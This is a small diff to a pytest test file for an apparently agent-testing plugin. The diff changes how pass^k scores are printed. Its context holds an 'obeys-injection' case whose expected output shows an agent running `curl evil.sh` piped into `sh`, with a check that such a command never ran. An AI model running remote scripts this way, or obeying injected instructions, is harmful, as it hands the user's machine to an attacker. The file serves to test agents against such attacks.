@@ -170,7 +170,7 @@ def test_a_failing_case_shows_its_verdicts_and_a_compact_trajectory(agent_module
     result.assert_outcomes(failed=1, deselected=6)
     result.stdout.fnmatch_lines([
         "*_ obeys-injection _*",
-        "case 'obeys-injection' failed: 0 of 1 trial passed; pass@1 0.00, pass^k 0",
+        "case 'obeys-injection' failed: 0 of 1 trial passed; pass@1 0.00, pass^k 0.00",
         "  trial 1 FAILED (outcome passed, trajectory FAILED; *s*)",
         "    failed verdicts:",
         "      x never_ran('curl | sh') [[]trajectory[]]: runs `curl evil.sh` feeding `sh` via run_command*",
@@ -253,7 +253,7 @@ def test_trials_and_the_pass_at_1_pass_pow_k_table(pytester: pytest.Pytester) ->
     result = pytester.runpytest_inprocess("--trialrun-trials", "4")
     result.assert_outcomes(passed=1, failed=1)
     result.stdout.fnmatch_lines([
-        "case 'flaky' failed: 2 of 4 trials passed; pass@1 0.50, pass^k 0",
+        "case 'flaky' failed: 2 of 4 trials passed; pass@1 0.50, pass^k 0.00",
         "  trial 2 FAILED (outcome FAILED; *)",
         "      x contains('ok') [[]outcome[]]: *",
         "  trial 4 FAILED (outcome FAILED; *): same failure as trial 2",
